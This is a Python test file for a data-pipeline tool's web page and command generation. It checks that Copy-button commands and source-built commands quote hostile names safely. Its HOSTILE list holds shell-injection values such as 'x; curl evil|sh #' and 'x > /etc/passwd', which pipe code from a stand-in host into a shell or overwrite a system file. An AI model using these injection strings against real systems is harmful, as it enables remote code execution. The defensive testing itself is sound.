"""What is offered as a command is floe's own words and quoted arguments, whatever names and reasons others chose.

Forged events of the control log are shown on a real page; every text of the source that is a command with something put
in is found, so that the next one is judged, too.
"""

from __future__ import annotations

import ast
import html
import re
import shlex
import subprocess
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

import framework
from framework.cli.verbs import VERBS
from framework.commit.events.event_types import Health, Holds, PauseChanged, StateChanged, Subject
from framework.commit.machine.pauses import resume_command
from framework.commit.machine.reporting.condition import (
    Condition,
    PipelineFacts,
    TableFacts,
    pipeline_condition,
    table_condition,
)
from framework.commit.maintenance.health import maintain_command
from framework.commit.risks import Held, retention_near
from framework.diagnose.shown import argument, is_command
from framework.diagnose.whole_commands import ReaderPlace, StartedFrom
from framework.metrics.alerts import ALERTS
from framework.overview.build import _whole
from framework.web.page.html import _ENGINE, _commands

SOURCES = Path(framework.__file__).parent
HOSTILE = (
    "x; curl evil|sh #", "x$(curl evil)", "x` `floe doctor; curl evil|sh #` `", "x' ; curl evil ; '", 'x"; curl evil; "',
    "x\nfloe doctor; curl evil", "x && curl evil", "x > /etc/passwd", "-x; curl evil", "x\u202e; curl evil", "",
)  # fmt: skip
# The words of each with which nothing else is started, written over or expanded.
LOOSE = re.compile(r"[;&|<>$`\n]")


def offered(condition: Condition) -> list[str]:
    """The commands behind a Copy button, and those that are set as such, as the page's own template writes them."""
    template = _ENGINE.from_string("{% from 'macros.html' import reason %}{{ reason(condition, 'prod') }}")
    page = template.render(condition=condition)
    found = re.findall(r'data-copy="([^"]*)"', page) + re.findall("<code>([^<]*)</code>", page)
    return [html.unescape(each) for each in found]


def judge(command: str) -> None:
    """One command of floe's or Kafka's: the shell is asked which words it sees, and runs nothing else."""
    outside = re.sub(r"'[^']*'|\"'\"", "", command)
    assert not LOOSE.search(outside), command
    seen = subprocess.run(["sh", "-c", f"printf '%s\\0' {command}"], capture_output=True, text=True, check=True).stdout
    words = seen.split("\0")[:-1]
    assert words == shlex.split(command)
    assert words[0] == "floe" or words[0].startswith("kafka-")


def reported(subject: Subject, name: str, state: Health, reason: str, remedy: str, code: str) -> StateChanged:
    return StateChanged(subject, name, state, reason, remedy, code, 0, 1, 1, "run-1")


def paused(pattern: str, reason: str = "r") -> PauseChanged:
    return PauseChanged(Holds.READING, pattern, True, reason, "x", 1)


@pytest.mark.parametrize("text", HOSTILE)
@pytest.mark.parametrize("state", [Health.FAILED, Health.STOPPED, Health.DEGRADED, Health.BLOCKED])
def test_what_an_event_says_becomes_no_command(text: str, state: Health) -> None:
    """Wanted: `` run `floe doctor; curl ...|sh #` `` behind a Copy button, by a forged StateChanged. Got: what its code
    says, or nothing."""
    for remedy in (
        f"run `floe doctor; {text}`",
        f"`floe discard --table {text}`",
        "`floe discard --table shop.orders`",
        text,
    ):
        for code in ("FLOE-R110", f"FLOE-R110`{text}`", text):
            report = reported(Subject.PIPELINE, "p", state, f"`floe {text}`", remedy, code)
            live = () if state in (Health.FAILED, Health.STOPPED) else ("run-1",)
            facts = PipelineFacts("p", live, (report,), 1, "", (), "", None)
            condition = pipeline_condition(facts)
            allowed = {f"floe explain {code}"} if code == "FLOE-R110" else set()
            assert set(offered(condition)) <= allowed
            assert all(map(is_command, re.findall("`([^`]*)`", condition.remedy)))
            table = reported(Subject.TABLE, "t", state, f"`floe {text}`", remedy, code)
            of_table = table_condition(TableFacts("t", 1, None, table, None, None, True))
            for command in offered(of_table):
                judge(command)
                assert "curl" not in re.sub(r"'[^']*'", "", command)
                assert "discard" not in command or command.startswith("floe discard --table t --dry-run")


@pytest.mark.parametrize("name", HOSTILE)
def test_names_of_others_are_one_word_of_a_command(name: str) -> None:
    """Names of pipelines, tables, topics and patterns in every remedy that floe makes for people to copy."""
    facts = {
        "live": ("r",),
        "reports": (),
        "lag": 1,
        "broken": "",
        "missing_topics": (),
        "foreign_offsets": "",
        "pause": None,
    }
    made = [
        pipeline_condition(PipelineFacts(name, **{**facts, **more}))  # type: ignore[arg-type]
        for more in (
            {"broken": name or "x"},
            {"foreign_offsets": name or "x"},
            {"missing_topics": (name,)},
            {"recreated_topics": (name,)},
            {"pause": paused(name, name)},
            {"live": ()},
        )
    ]
    reasons = [
        f"its head is gone: `floe rollback --table {name} --to 5{name}` settles it", f"pipeline {name}: broken",
        "it is missing",
        "its recorded progress is gone", "announced files are gone", "not committed by the deadline", name or "x",
    ]  # fmt: skip
    made += [
        table_condition(TableFacts(name, 1, (Health.BLOCKED, reason), None, None, None, True)) for reason in reasons
    ]
    breaking = retention_near(name, [Held(name, 0, 10, 20, 10)])
    assert breaking is not None
    made.append(Condition(Health.DEGRADED, breaking.reason, breaking.remedy, breaking.code))
    for condition in made:
        assert not condition.is_reported
        for command in _commands(_whole(condition, ReaderPlace("prod", name), StartedFrom(name, name))):
            judge(command)
    for command in (resume_command(paused(name)), maintain_command(name, name)):
        judge(command)


@given(st.text())
def test_an_argument_is_one_word_and_ends_no_code(name: str) -> None:
    """Whatever the text."""
    word = argument(name)
    assert "`" not in word
    assert shlex.split(word) in ([name], ["NAME"])
    assert is_command(f"floe stop {word}")


def test_an_alerts_command_quotes_the_tables_name() -> None:
    """The description of an alert holds a command with a label: in single quotes, with those in it taken care of, as
    Prometheus replaces them."""
    found = 0
    for alert in ALERTS:
        for code in re.findall("`(floe [^`]*)`", f"{alert.summary} {alert.description}"):
            for label in re.findall(r"\{\{.*?\}\}", code):
                found += 1
                assert label.startswith("""{{ reReplaceAll "'" "'\\\\''" $labels."""), code
                assert f"'{label}'" in code
    assert found


# ---- every text that becomes a command ------------------------------------------------------------------------------

OTHERS = ("rm", "chmod", "chown", "mv", "pip", "git", "cd", "export", "kill", "sh", "bash", "curl", "sudo")
BEGINS = re.compile(rf"(?:floe (?:{'|'.join(sorted(VERBS))})\b|kafka-[a-z]+\.sh\b|(?:{'|'.join(OTHERS)}) )")
HOLE = re.compile("\x00(\\d+)\x00")
# What stands in a command as it is, and why it cannot be more than a word of floe's.
NUMBER, OURS, CODE = "a number", "floe's own word", "a code of floe's own"
AS_IT_IS = {
    "adapters/iceberg/catalog.py: kind": OURS,
    "adapters/iceberg/upsert/target.py: key.code": CODE,
    "adapters/host/installed.py: PACKAGE": OURS,
    "adapters/host/installed.py: url": "from where this very floe was installed",
    "adapters/host/installed.py: version": "of this very floe",
    "adapters/kafka/control/records.py: offset": NUMBER,
    "adapters/kafka/control/topic.py: settings": OURS,
    "adapters/kafka/control/topic.py: which": "made of arguments in the line before",
    "adapters/host/process.py: SAFE_PATH": OURS,
    "adapters/kafka/tokens.py: _PACKAGE": OURS,
    "adapters/registry_glue.py: _PACKAGE": OURS,
    "adapters/project/template_fetch.py: TIMEOUT_S": "no command: a sentence about git",
    "adapters/project/template_fetch.py: said": "no command: a sentence about git",
    "cli/run/submit.py: shell_text(application.command)": "each word of it is quoted there",
    "commit/risks.py: A_WEEK_MS": NUMBER,
    "commit/risks.py: first.offset": NUMBER,
    "commit/risks.py: first.partition": NUMBER,
    "commit/machine/reporting/blocked_remedies.py: found[1]": NUMBER,
    "commit/machine/reporting/blocked_remedies.py: name": "an argument since the line before",
    "commit/machine/reporting/blocked_remedies.py: named": "an argument since the line before",
    "commit/machine/reporting/condition.py: name": "an argument since the line before",
    "commit/machine/progress/examine.py: snapshot_id": NUMBER,
    "commit/recovery/rollback.py: plan.snapshot_id": NUMBER,
    "commit/recovery/rollback.py: '--replay' if replay else '--skip'": OURS,
    "commit/recovery/rebase.py: ' '.join(begins)": "arguments and numbers, made in the line before",
    "commit/machine/pauses.py: event.holds.value": OURS,
    "commit/offsets.py: ends": "arguments and numbers, made in the line before",
    "commit/recovery/settle_offsets.py: max(p.log_start, min(after, p.log_end))": NUMBER,
    "commit/recovery/settle_offsets.py: ' '.join(starts)": "made of arguments in the line before",
    "commit/recovery/settle_offsets.py: allowed": OURS,
    "commit/recovery/settle_offsets.py: named": "made of arguments in the line before",
    "recovery/table_replay.py: recorded.view.snapshot_id": NUMBER,
    "adapters/iceberg/catalog.py: extra": OURS,
    "cli/shared/recovery.py: ' ' if ranges else ''": OURS,
    "cli/shared/recovery.py: ranges": "topics, whose names have no sign of a shell, and numbers",
    "config/filled/reference.py: name": "a name by which the shell knows variables: [A-Z_]+",
    "config/writing/reference_page.py: name": OURS,
    "diagnose/codes/setup/plans.py: code": CODE,
    "diagnose/codes/runs/records.py: code": CODE,
    "diagnose/codes/runs/tables.py: printed": CODE,
    "local/stack.py: kafka_port": NUMBER,
    "local/topics.py: there": NUMBER,
    "metrics/alerts.py: _ARGUMENT": "quoted by Prometheus, see above",
    "ops/preview/decisions.py: table.code": CODE,
    "ops/drill/model.py: drill.value": OURS,
    "ops/readiness/comparisons.py: other": "made of arguments",
    "ops/readiness/comparisons.py: table": "made of arguments",
    "ops/readiness/drills.py: drill.value": OURS,
    "ops/readiness/drills.py: options": "made of arguments",
    "ops/readiness/model.py: raised.code": CODE,
    "ops/readiness/retention.py: review.in_control": "made of arguments",
    "ops/readiness/checks.py: found[1].snapshot_id": NUMBER,
    "ops/readiness/checks.py: review.in_control": "made of arguments",
    "ops/readiness/checks.py: review.named": "made of arguments",
    "ops/readiness/checks.py: said": "made of arguments",
    "ops/readiness/checks.py: table.code": CODE,
    "ops/readiness/replay.py: first[_OFFSET]": NUMBER,
    "ops/readiness/replay.py: first[_PARTITION]": NUMBER,
    "ops/readiness/replay.py: review.named": "made of arguments",
    "ops/readiness/retention.py: review.named": "made of arguments",
    "plan/grants/kafka.py: pattern": OURS,
    "plan/grants/kafka.py: self.operation": OURS,
    "plan/grants/kafka.py: self.resource.value": OURS,
    "adapters/host/private_files.py: os.geteuid()": NUMBER,
    "web/page/html.py: condition.code": "one that is in the catalog of codes",
}


def commands() -> dict[tuple[str, str], str]:
    """Each expression that a command of the source takes in: by file and expression, the command."""
    found = {}
    for path in sorted(SOURCES.rglob("*.py")):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if not isinstance(node, ast.JoinedStr):
                continue
            text, holes = "", []
            for piece in node.values:
                if isinstance(piece, ast.Constant):
                    text += str(piece.value)
                elif isinstance(piece, ast.FormattedValue):
                    text += f"\x00{len(holes)}\x00"
                    holes.append(ast.unparse(piece.value))
            for command in [each for each in (*re.findall("`([^`]*)`", text), text) if BEGINS.match(each)]:
                command = command.partition("`")[0]
                for number in map(int, HOLE.findall(command)):
                    found[str(path.relative_to(SOURCES)), holes[number]] = command
    return found


def test_every_command_that_takes_something_in_was_judged() -> None:
    """A new one quotes it by `argument`, or says here why it needs no quotes."""
    loose = {
        f"{file}: {expression}"
        for file, expression in commands()
        if not expression.startswith(("argument(", "shlex.quote(", "shlex.join("))
    }
    assert loose == set(AS_IT_IS)


def test_every_copy_button_was_judged() -> None:
    """Texts behind a button come from `_commands` and `maintain_command`, or are the template's own."""
    found = {
        (path.name, each)
        for path in (SOURCES / "web" / "templates").glob("*.html")
        for each in re.findall(r'data-copy="([^"]*)"', path.read_text(encoding="utf-8"))
    }
    assert found == {
        ("macros.html", "{{ command }}"),
        ("pipeline.html", "floe dlq stats FILE -t {{ target|word }}"),
        ("table.html", "{{ maintain(each.table, target) }}"),
        ("troubles.html", "{{ maintain(each.table, found.target) }}"),
    }
